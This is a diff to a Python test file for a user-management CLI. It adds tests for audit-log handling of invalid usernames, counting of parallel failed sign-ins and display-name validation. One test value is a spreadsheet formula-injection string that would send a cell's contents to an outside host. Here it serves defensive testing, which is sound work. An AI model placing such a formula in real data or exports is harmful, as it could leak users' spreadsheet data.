@@ -1,11 +1,16 @@
 """`tracker users …` and the administrator check of `tracker serve`, in-process on SQLite and
 PostgreSQL: plain messages for every refusal, no default account, every write on the trail."""
 
+import contextlib
+from concurrent.futures import ThreadPoolExecutor
+
 import pytest
+from sqlalchemy import text
 from sqlalchemy.engine import Engine
 from typer.testing import CliRunner, Result
 
 from tracker.cli import app
+from tracker.roles import local_operator
 from tracker.services import users
 from tracker.services.audit import verify
 
@@ -148,3 +153,37 @@ def test_set_role_and_reset_password(loaded_engine: Engine) -> None:
     assert users.authenticate(engine=loaded_engine, username="jane", password=new).role.value == (
         "editor"
     )
+
+
+def test_a_typed_username_that_is_no_username_is_never_stored(loaded_engine: Engine) -> None:
+    for typed in ('=HYPERLINK("http://x/?"&A2)', "x" * 5_000):
+        with pytest.raises(users.SignInError, match="username or password is not right"):
+            users.authenticate(engine=loaded_engine, username=typed, password="whatever")
+    with loaded_engine.connect() as conn:
+        stored = conn.execute(text("SELECT actor, object_id FROM audit_event")).all()
+    assert stored == [("(invalid username)", "(invalid username)")] * 2
+    assert verify(engine=loaded_engine).ok
+
+
+def test_parallel_wrong_passwords_are_each_counted(loaded_engine: Engine) -> None:
+    add_admin()
+    ok("users", "add", "jane", "--role", "viewer", "--password-stdin", stdin=PASSWORD)
+
+    def guess(_: int) -> None:
+        with contextlib.suppress(users.SignInError):
+            users.authenticate(engine=loaded_engine, username="jane", password="wrong guess")
+
+    with ThreadPoolExecutor(max_workers=4) as pool:
+        list(pool.map(guess, range(4)))
+    (jane,) = [
+        u
+        for u in users.list_users(engine=loaded_engine, actor=local_operator())
+        if u.username == "jane"
+    ]
+    assert jane.failed_sign_ins == 4
+
+
+def test_a_display_name_follows_the_text_rules(loaded_engine: Engine) -> None:
+    add_admin()
+    message = refused("users", "add", "jane", "--role", "viewer", "--name", "Jane\x07 Smith")
+    assert "display name: contains a control character" in message
